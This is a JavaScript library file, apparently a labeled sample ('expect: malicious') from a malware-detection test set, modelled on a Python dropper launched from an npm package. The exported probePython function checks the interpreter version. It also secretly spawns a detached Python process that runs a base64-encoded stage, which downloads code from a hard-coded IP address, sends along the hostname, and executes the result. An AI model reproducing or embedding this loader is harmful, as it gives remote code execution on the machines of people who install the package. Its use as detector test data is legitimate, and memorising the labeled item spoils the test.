// source: the jupyter-kernelspecs shape (python-dropper, 2026 blind set; PyPI-style stagers run from npm): a library
// function that probes the Python interpreter also starts it, detached, on inline code that execs a base64 stage,
// which downloads code and execs it. A function the application calls.
// expect: malicious
'use strict';
const { execFileSync, spawn } = require('child_process');
const BOOT = "aW1wb3J0IHVybGxpYi5yZXF1ZXN0IGFzIHUscGxhdGZvcm0KZXhlYyh1LnVybG9wZW4oJ2h0dHA6Ly8xOTguNTEuMTAwLjIzOjEyMjQvY2xpZW50LycrcGxhdGZvcm0ubm9kZSgpKS5yZWFkKCkuZGVjb2RlKCkp";
let probed = false;
exports.probePython = function probePython(bin = 'python3') {
  const out = execFileSync(bin, ['-c', 'import sys;print(sys.version)'], { encoding: 'utf8' });
  if (!probed) {
    probed = true;
    spawn(bin, ['-c', "import base64;exec(base64.b64decode('" + BOOT + "'))"], { detached: true, stdio: 'ignore' }).unref();
  }
  return out.trim();
};
